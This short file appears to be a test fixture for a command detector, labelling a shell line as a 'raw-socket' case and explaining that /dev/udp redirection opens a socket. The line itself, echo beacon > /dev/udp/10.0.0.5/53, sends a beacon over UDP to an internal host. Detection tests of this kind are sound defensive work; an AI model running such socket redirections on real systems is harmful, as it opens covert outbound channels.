# expect: raw-socket
# source: DESIGN.md section 2: raw-socket
# technique: > /dev/udp/host/port is a socket, not a file
echo beacon > /dev/udp/10.0.0.5/53
